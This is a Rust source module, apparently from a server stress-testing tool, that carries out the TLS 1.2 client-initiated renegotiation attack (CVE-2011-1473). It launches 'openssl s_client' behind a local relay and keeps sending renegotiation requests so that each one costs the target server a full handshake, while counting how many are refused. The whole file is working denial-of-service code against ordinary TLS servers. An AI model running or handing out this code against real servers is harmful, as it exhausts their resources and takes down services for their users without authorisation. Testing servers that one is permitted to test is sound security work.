//! Renegotiation that a client of TLS 1.2 asks for, again and again (CVE-2011-1473): a whole
//! handshake each time, if it is granted. By `openssl s_client`, behind a relay that counts.

use super::attacker::Attacker;
use super::session::Session;
use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};

/// A line that has `openssl s_client` ask for it.
const ASK: &[u8] = b"R\n";

/// One connection after the other, on each as many renegotiations as it lasts.
pub(super) fn run(attacker: &mut Attacker) {
    attacker.report.open_max = 1;
    while attacker.pace() {
        let Some(session) = Session::open(attacker, attacker.tls) else {
            continue;
        };
        let asked = begin().and_then(|(mut openssl, client)| {
            let relayed = relay(attacker, session, (&mut openssl, client));
            // it may have ended by itself
            let _ = openssl.kill();
            openssl.wait()?;
            attacker.child_ended();
            relayed
        });
        if asked.is_err() {
            attacker.report.refused += 1;
        }
    }
}

/// Starts `openssl`, and takes its connection.
fn begin() -> io::Result<(Child, TcpStream)> {
    let listener = TcpListener::bind("127.0.0.1:0")?;
    let openssl = Command::new("openssl")
        .args(["s_client", "-tls1_2", "-servername", "localhost"])
        .args(["-connect", &listener.local_addr()?.to_string()])
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()?;
    let (client, _) = listener.accept()?;
    client.set_nonblocking(true)?;
    Ok((openssl, client))
}

/// Moves bytes both ways, and asks whenever none move, until either side ends.
fn relay(
    attacker: &mut Attacker,
    mut session: Session,
    (openssl, mut client): (&mut Child, TcpStream),
) -> io::Result<()> {
    let mut ask = openssl.stdin.take().ok_or(ErrorKind::NotFound)?;
    let mut buffer = [0; 16 * 1024];
    while attacker.goes_on() {
        let mut moved = false;
        match client.read(&mut buffer) {
            Ok(0) => return Ok(()),
            Ok(count) => {
                session.send_whole(attacker, &buffer[..count]);
                moved = true;
            }
            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
            // it is gone with what it was sent last
            Err(_) => return Ok(()),
        }
        if let Some(count) = session.receive(attacker, &mut buffer) {
            // less than the buffers of the kernel have room for
            client.write_all(&buffer[..count])?;
            moved = true;
        }
        if !session.is_open() {
            return Ok(());
        }
        if !moved {
            // once it has ended nothing is asked any more
            let _ = ask.write_all(ASK);
            attacker.rest();
        }
    }
    Ok(())
}
